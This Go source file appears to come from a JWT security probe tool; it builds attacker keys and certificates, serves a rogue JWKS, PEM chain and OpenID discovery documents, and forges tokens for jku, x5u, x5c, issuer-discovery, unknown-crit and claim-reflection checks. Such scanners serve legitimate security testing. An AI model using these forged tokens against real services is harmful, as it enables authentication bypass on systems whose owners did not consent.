package forge

import (
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	"maps"
	"math/big"
	"net/url"
	"slices"
	"strings"
	"time"

	"github.com/jwtkit/jwtkit/pkg/keys"
	"github.com/jwtkit/jwtkit/pkg/token"
)

// Attacker is key material only one run knows: a fresh key of the token's
// family, a self-signed certificate for it, and a chain (a fresh CA and a
// leaf for the same key). The x5c, jku, x5u and issuer-discovery variants
// are signed with it.
type Attacker struct {
	Key      *keys.Key
	Alg      string
	KID      string // the kid the served JWKS gives the key: the token's own, else the thumbprint
	SelfCert []byte // DER of the self-signed certificate
	LeafCert []byte // DER of the leaf certificate issued by CACert
	CACert   []byte // DER of the fresh CA
}

// NewAttacker makes attacker material for a token signed with alg whose kid
// is kid ("" when it has none). now dates the certificates.
func NewAttacker(alg, kid string, now time.Time) (*Attacker, error) {
	k, salg, err := freshKey(alg)
	if err != nil {
		return nil, err
	}
	a := &Attacker{Key: k, Alg: salg, KID: kid}
	if a.KID == "" {
		a.KID = k.KID
	}
	ca, _, err := freshKey(salg)
	if err != nil {
		return nil, err
	}
	tmpl := func(cn string, isCA bool) *x509.Certificate {
		serial, _ := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 62))
		return &x509.Certificate{
			SerialNumber: serial, Subject: pkix.Name{CommonName: cn},
			NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour),
			KeyUsage:              x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
			BasicConstraintsValid: true, IsCA: isCA,
		}
	}
	self := tmpl("jwtkit-probe attacker", false)
	if a.SelfCert, err = x509.CreateCertificate(rand.Reader, self, self, k.Public, k.Private); err != nil {
		return nil, fmt.Errorf("%w: self-signed certificate: %w", ErrForge, err)
	}
	caT := tmpl("jwtkit-probe attacker CA", true)
	if a.CACert, err = x509.CreateCertificate(rand.Reader, caT, caT, ca.Public, ca.Private); err != nil {
		return nil, fmt.Errorf("%w: CA certificate: %w", ErrForge, err)
	}
	caCert, _ := x509.ParseCertificate(a.CACert)
	if a.LeafCert, err = x509.CreateCertificate(rand.Reader, tmpl("jwtkit-probe attacker leaf", false), caCert, k.Public, ca.Private); err != nil {
		return nil, fmt.Errorf("%w: leaf certificate: %w", ErrForge, err)
	}
	return a, nil
}

// JWKS is the attacker's public key as a JWK Set with the kid a.KID.
func (a *Attacker) JWKS() []byte {
	pub := *a.Key.PublicKey()
	pub.KID, pub.Alg, pub.Use = a.KID, a.Alg, "sig"
	b, _ := keys.MarshalJWKS([]*keys.Key{&pub}) // a generated key always marshals
	return b
}

// ChainPEM is the chain x5u points at, as PEM: the leaf for the attacker
// key first (RFC 5280 order, as RFC 7515 §4.1.5 wants), then the fresh CA
// that issued it.
func (a *Attacker) ChainPEM() []byte {
	return append(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: a.LeafCert}),
		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: a.CACert})...)
}

// File is one document a callback listener serves.
type File struct {
	Check       string // the check whose variant points at it
	Path        string // the URL path, random per run
	Token       string // the random path segment: any request whose path holds it is this check's
	URL         string // the full URL the token names
	ContentType string
	Body        []byte
}

// PlaceholderPort stands for a port not chosen yet in NewCallback's URLs
// (http://127.0.0.1:PORT in a dry run's plan).
const PlaceholderPort = "PORT"

// Callback is where the listener-based variants point: the URLs a
// listener reachable by the target serves, under random paths.
type Callback struct {
	Attacker *Attacker
	Files    []File

	jku, x5u, issuer string
}

// NewCallback lays out the documents under baseURL (what the target
// reaches, e.g. http://127.0.0.1:PORT or a tunnel's https URL) and
// tlsBaseURL (the same listener over TLS, for x5u; "" = baseURL). Paths
// are random so that only this run's listener knows them.
func NewCallback(a *Attacker, baseURL, tlsBaseURL string) (*Callback, error) {
	// A plan names a port not chosen yet as PlaceholderPort, which
	// url.Parse refuses: it parses as port 0.
	parse := func(u string) (*url.URL, error) {
		return url.Parse(strings.Replace(u, ":"+PlaceholderPort, ":0", 1))
	}
	for _, u := range []string{baseURL, tlsBaseURL} {
		if u == "" {
			continue
		}
		p, err := parse(u)
		if err != nil || (p.Scheme != "http" && p.Scheme != "https") || p.Host == "" {
			return nil, fmt.Errorf("%w: callback URL %q is not an http or https URL", ErrForge, u)
		}
	}
	baseURL = strings.TrimRight(baseURL, "/")
	if tlsBaseURL == "" {
		tlsBaseURL = baseURL
	}
	tlsBaseURL = strings.TrimRight(tlsBaseURL, "/")
	basePath := func(u string) string { p, _ := parse(u); return strings.TrimRight(p.Path, "/") }
	c := &Callback{Attacker: a}
	jwks := "/" + randomPath() + "/jwks.json"
	x5u := "/" + randomPath() + "/x5u.pem"
	iss := "/" + randomPath()
	c.jku = baseURL + jwks
	c.x5u = tlsBaseURL + x5u
	c.issuer = baseURL + iss
	disc, _ := token.MarshalJSON(map[string]any{"issuer": c.issuer, "jwks_uri": c.issuer + "/jwks.json",
		"id_token_signing_alg_values_supported": []any{a.Alg}})
	seg := func(p string) string { return strings.Split(strings.TrimPrefix(p, "/"), "/")[0] }
	bp, tbp, origin := basePath(baseURL), basePath(tlsBaseURL), strings.TrimSuffix(baseURL, basePath(baseURL))
	const jwksType, discType = "application/jwk-set+json", "application/json"
	c.Files = []File{
		{"jwt.jku-injection", bp + jwks, seg(jwks), c.jku, jwksType, a.JWKS()},
		{"jwt.x5u-injection", tbp + x5u, seg(x5u), c.x5u, "application/pem-certificate-chain", a.ChainPEM()},
		{"jwt.issuer-discovery-injection", bp + iss + "/jwks.json", seg(iss), c.issuer + "/jwks.json", jwksType, a.JWKS()},
	}
	// An API may build the discovery URL from iss in any of the forms in
	// use: appended (OpenID Connect Discovery §4) or inserted between host
	// and path (RFC 8414 §3, also used for openid-configuration); each
	// serves the same document.
	for _, p := range []string{
		bp + iss + "/.well-known/openid-configuration",
		bp + iss + "/.well-known/oauth-authorization-server",
		"/.well-known/openid-configuration" + bp + iss,
		"/.well-known/oauth-authorization-server" + bp + iss,
	} {
		c.Files = append(c.Files, File{"jwt.issuer-discovery-injection", p, seg(iss), origin + p, discType, disc})
	}
	return c, nil
}

// FilesFor lists the documents one check's variants point at.
func (c *Callback) FilesFor(check string) []File {
	var out []File
	for _, f := range c.Files {
		if f.Check == check {
			out = append(out, f)
		}
	}
	return out
}

func randomPath() string {
	b := make([]byte, 12)
	_, _ = rand.Read(b) // crypto/rand.Read never fails
	return hex.EncodeToString(b)
}

// signRaw signs the token's own payload segment, byte for byte, under
// header with key.
func (f *Forger) signRaw(key *keys.Key, alg string, header map[string]any) (string, error) {
	hj, err := token.MarshalJSON(header)
	if err != nil {
		return "", fmt.Errorf("%w: header: %w", ErrForge, err)
	}
	payload, err := base64.RawURLEncoding.DecodeString(f.payloadSeg)
	if err != nil {
		return "", fmt.Errorf("%w: payload: %w", ErrForge, err)
	}
	tok, err := token.SignJWS(key, alg, hj, payload)
	if err != nil {
		return "", fmt.Errorf("%w: %w", ErrForge, err)
	}
	return tok, nil
}

// JKUInjection signs the token with the attacker key and points jku at the
// attacker's JWKS, once with the token's kid (the JWKS key carries it) and
// once without a kid.
func (f *Forger) JKUInjection(c *Callback) ([]Forged, error) {
	a := c.Attacker
	with, err := f.signRaw(a.Key, a.Alg, f.withHeaderMap(map[string]any{"alg": a.Alg, "kid": a.KID, "jku": c.jku}))
	if err != nil {
		return nil, err
	}
	without, err := f.signRaw(a.Key, a.Alg, f.withHeaderMap(map[string]any{"alg": a.Alg, "kid": nil, "jku": c.jku}))
	if err != nil {
		return nil, err
	}
	return []Forged{
		{ID: "jwt.jku-injection/jwks-with-kid", Label: fmt.Sprintf("%s signed with a fresh key, jku naming probe's JWKS, kid %q", a.Alg, a.KID), Token: with},
		{ID: "jwt.jku-injection/jwks-without-kid", Label: a.Alg + " signed with a fresh key, jku naming probe's JWKS, no kid", Token: without},
	}, nil
}

// X5UInjection signs the token with the attacker key and points x5u at a
// PEM chain: the attacker key's leaf and the fresh CA that issued it.
func (f *Forger) X5UInjection(c *Callback) (Forged, error) {
	a := c.Attacker
	tok, err := f.signRaw(a.Key, a.Alg, f.withHeaderMap(map[string]any{"alg": a.Alg, "kid": nil, "x5u": c.x5u}))
	if err != nil {
		return Forged{}, err
	}
	return Forged{ID: "jwt.x5u-injection/pem-chain", Label: a.Alg + " signed with a fresh key, x5u naming probe's PEM chain (its leaf and a fresh CA)", Token: tok}, nil
}

// X5CInjection signs the token with the attacker key and embeds its
// certificate in x5c: self-signed, and as a chain under a fresh CA.
func (f *Forger) X5CInjection(a *Attacker) ([]Forged, error) {
	b64 := base64.StdEncoding.EncodeToString
	self, err := f.signRaw(a.Key, a.Alg, f.withHeaderMap(map[string]any{"alg": a.Alg, "kid": nil, "x5c": []any{b64(a.SelfCert)}}))
	if err != nil {
		return nil, err
	}
	chain, err := f.signRaw(a.Key, a.Alg, f.withHeaderMap(map[string]any{"alg": a.Alg, "kid": nil, "x5c": []any{b64(a.LeafCert), b64(a.CACert)}}))
	if err != nil {
		return nil, err
	}
	return []Forged{
		{ID: "jwt.x5c-injection/self-signed", Label: a.Alg + " signed with a fresh key, its self-signed certificate in x5c", Token: self},
		{ID: "jwt.x5c-injection/chain", Label: a.Alg + " signed with a fresh key, x5c holding its leaf and a fresh CA", Token: chain},
	}, nil
}

// IssuerDiscovery signs the token with the attacker key, kid a.KID, and iss
// set to the callback's issuer URL, which serves an OpenID discovery
// document whose jwks_uri holds the attacker key.
func (f *Forger) IssuerDiscovery(c *Callback) (Forged, error) {
	a := c.Attacker
	claims := cloneMap(f.claims)
	claims["iss"] = c.issuer
	tok, err := f.sign(a.Key, a.Alg, f.withHeaderMap(map[string]any{"alg": a.Alg, "kid": a.KID}), claims)
	if err != nil {
		return Forged{}, err
	}
	return Forged{ID: "jwt.issuer-discovery-injection/discovery", Label: fmt.Sprintf("%s signed with a fresh key, iss naming probe's discovery document", a.Alg), Token: tok}, nil
}

// CritExtension is the unknown critical header jwt.unknown-crit names.
const CritExtension = "x-jwtkit-probe"

// UnknownCrit re-signs the token with the real key and a crit header
// naming an extension no library knows (RFC 7515 §4.1.11: must be
// refused). The payload is kept byte for byte.
func (f *Forger) UnknownCrit(key *keys.Key) (Forged, error) {
	if key == nil || !key.IsPrivate() {
		return Forged{}, fmt.Errorf("%w: no signing key", ErrForge)
	}
	tok, err := f.signRaw(key, f.Alg(), f.withHeaderMap(map[string]any{"crit": []any{CritExtension}, CritExtension: true}))
	if err != nil {
		return Forged{}, err
	}
	return Forged{ID: "jwt.unknown-crit/" + CritExtension, Label: fmt.Sprintf("crit [%q] with the real signature", CritExtension), Token: tok}, nil
}

// ClaimReflection sets every string claim (and every string in an array
// claim; sub is added when absent) to a marker unique to that claim and
// breaks the signature. It returns the variant and the markers, each
// mapped to the claim it stands in.
func (f *Forger) ClaimReflection(marker string) (Forged, map[string]string) {
	c := cloneMap(f.claims)
	if _, ok := c["sub"]; !ok {
		c["sub"] = ""
	}
	markers := map[string]string{}
	n := 0
	next := func(name string) string {
		n++
		m := fmt.Sprintf("%s%02d", marker, n)
		markers[m] = name
		return m
	}
	for _, k := range sortedKeys(c) {
		switch v := c[k].(type) {
		case string:
			c[k] = next(k)
		case []any:
			for i, e := range v {
				if _, ok := e.(string); ok {
					v[i] = next(k)
				}
			}
		}
	}
	bad := f.BadSignature()
	sig := bad.Token[strings.LastIndex(bad.Token, ".")+1:]
	claims := "claims"
	if len(markers) == 1 {
		claims = "claim"
	}
	return Forged{ID: "jwt.claim-reflection/markers", Label: fmt.Sprintf("%d %s set to markers, signature broken", len(markers), claims), Token: f.headerSeg + "." + encodeSeg(c) + "." + sig}, markers
}

func sortedKeys(m map[string]any) []string { return slices.Sorted(maps.Keys(m)) }
